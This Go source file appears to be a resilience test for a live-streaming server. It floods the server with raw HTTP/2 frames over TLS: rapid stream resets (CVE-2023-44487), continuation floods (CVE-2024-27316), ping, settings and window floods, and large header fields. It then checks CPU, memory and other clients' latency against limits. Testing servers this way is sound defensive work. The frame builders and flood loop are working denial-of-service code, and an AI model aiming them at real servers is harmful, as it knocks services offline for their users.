//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"slices"
	"sync"
	"sync/atomic"
	"time"
)

const (
	// frameConns send each flood of HTTP/2 at a time, for frameTime.
	frameConns = 16
	frameTime  = 2 * time.Second
	// frameCost is what one frame of a flood may cost, in µs of CPU time, frameMemory what all
	// together may take, in MB.
	frameCost, frameMemory = 150.0, 120.0
	// calmWithin is how long another client may wait for a playlist meanwhile, in ms.
	calmWithin = 4000.0
)

// hello2 begins a connection of HTTP/2 (RFC 9113 3.4).
func hello2(settings ...byte) []byte {
	return appendFrame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 4, 0, 0, settings)
}

func dialTLS2(addr string) (*tls.Conn, error) {
	return tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
}

// dialHTTPS2 lets the server send without end, over TLS.
func dialHTTPS2(_ context.Context, addr, path string) (io.ReadCloser, error) {
	conn, err := dialTLS2(addr)
	if err != nil {
		return nil, err
	}
	b := hello2(0, 4, 0x7f, 0xff, 0xff, 0xff)
	b = appendFrame(b, 8, 0, 0, []byte{0x3f, 0xff, 0xff, 0xff})
	_, err = conn.Write(appendFrame(b, 1, 0x5, 1, requestHeader(addr, path)))
	return conn, err
}

// floods2 are frames of HTTP/2 that cost their sender little. Each returns the next ones.
func floods2(addr, held string) map[string]func(b []byte, stream uint32) []byte {
	ask := func(b []byte, stream uint32, flags byte, path string) []byte {
		return appendFrame(b, 1, flags, stream, requestHeader(addr, path))
	}
	return map[string]func(b []byte, stream uint32) []byte{
		"resets": func(b []byte, stream uint32) []byte { // CVE-2023-44487
			return appendFrame(ask(b, stream, 0x5, held), 3, 0, stream, []byte{0, 0, 0, 8})
		},
		"resets of pages": func(b []byte, stream uint32) []byte {
			return appendFrame(ask(b, stream, 0x5, "/live/movie/"), 3, 0, stream, []byte{0, 0, 0, 8})
		},
		"errors": func(b []byte, stream uint32) []byte { // the server resets
			return appendFrame(ask(b, stream, 0x5, held), 8, 0, stream, []byte{0, 0, 0, 0})
		},
		"pings":    func(b []byte, _ uint32) []byte { return appendFrame(b, 6, 0, 0, make([]byte, 8)) },
		"settings": func(b []byte, _ uint32) []byte { return appendFrame(b, 4, 0, 0, nil) },
		"windows": func(b []byte, stream uint32) []byte { // all streams are looked at
			return appendFrame(b, 4, 0, 0, append([]byte{0, 4}, binary.BigEndian.AppendUint32(nil, stream)...))
		},
		"continuations": func(b []byte, stream uint32) []byte { // CVE-2024-27316
			if stream == 1 {
				b = appendFrame(b, 1, 0, 1, []byte{0x82})
			}
			return appendFrame(b, 9, 0, 1, []byte{0x82})
		},
		"empty content": func(b []byte, stream uint32) []byte {
			if stream == 1 {
				b = ask(b, 1, 0x4, "/live/movie/")
			}
			return appendFrame(b, 0, 0, 1, nil)
		},
		"large fields": func(b []byte, stream uint32) []byte { // one of 4 KB in the table, a thousand times
			if stream == 1 {
				large := append([]byte{0x40, 1, 'x', 0x7f, 0x80 | (4000-127)&0x7f, (4000 - 127) >> 7}, bytes.Repeat([]byte{'y'}, 4000)...)
				return appendFrame(b, 1, 0x5, 1, append(requestHeader(addr, held), large...))
			}
			return appendFrame(b, 1, 0x5, stream, append(requestHeader(addr, held), bytes.Repeat([]byte{0xbe}, 10000)...))
		},
	}
}

// http2Floods sends each of them over some connections as fast as it can, while another client asks
// for playlists.
func http2Floods(ctx context.Context, s *server, r *report) error {
	if err := s.publish(ctx, "movie"); err != nil {
		return err
	}
	const list = "/live/movie/index.m3u8"
	before := s.memory()
	worst, which, most, slowest := 0.0, "", 0.0, time.Duration(0)
	floods := floods2(s.hls, "/live/movie/index-v0.m3u8?_HLS_msn=99999999999")
	for name, next := range floods {
		cpu := s.cpu()
		frames, waited, err := s.flood2(ctx, next, list)
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		if cost := float64((s.cpu() - cpu).Microseconds()) / float64(max(frames, 1)); cost > worst && frames > 1000 {
			worst, which = cost, name
		}
		most, slowest = max(most, s.memory()-before), max(slowest, waited)
	}
	r.did("%d floods of HTTP/2 frames over TLS, each over %d connections at a time that come again when they are cut off", len(floods), frameConns)
	r.atMost("memory", most, frameMemory, "MB")
	r.atMost("CPU time of a turn of the worst ("+which+"), handshakes in it", worst, frameCost, "µs")
	r.atMost("a playlist for another client", milliseconds(slowest), calmWithin, "ms")
	return nil
}

// flood2 returns how many turns of a flood were sent, and the longest time that another client
// waited.
func (s *server) flood2(ctx context.Context, next func([]byte, uint32) []byte, list string) (turns int64, waited time.Duration, err error) {
	ctx, stop := context.WithTimeout(ctx, frameTime)
	defer stop()
	var sent atomic.Int64
	var flooding sync.WaitGroup
	for range frameConns {
		flooding.Go(func() {
			for ctx.Err() == nil {
				sent.Add(floodOnce(ctx, s.hls, next))
			}
		})
	}
	for ctx.Err() == nil && err == nil {
		begun := time.Now()
		var status int
		status, _, err = s.get(s.hlsURL(list), 15*time.Second)
		if err == nil && status != 200 {
			err = fmt.Errorf("the playlist has status %d", status)
		}
		waited = max(waited, time.Since(begun))
	}
	flooding.Wait()
	return sent.Load(), waited, err
}

// floodOnce floods over one connection, of which it reads nothing, until that is cut off.
func floodOnce(ctx context.Context, addr string, next func([]byte, uint32) []byte) (turns int64) {
	conn, err := dialTLS2(addr)
	if err != nil {
		return 0
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.NetConn().Close() })
	defer stop()
	b := slices.Clone(hello2())
	for stream := uint32(1); ; {
		for range 16 {
			b = next(b, stream)
			stream += 2
			turns++
		}
		if _, err := conn.Write(b); err != nil {
			return turns
		}
		b = b[:0]
	}
}
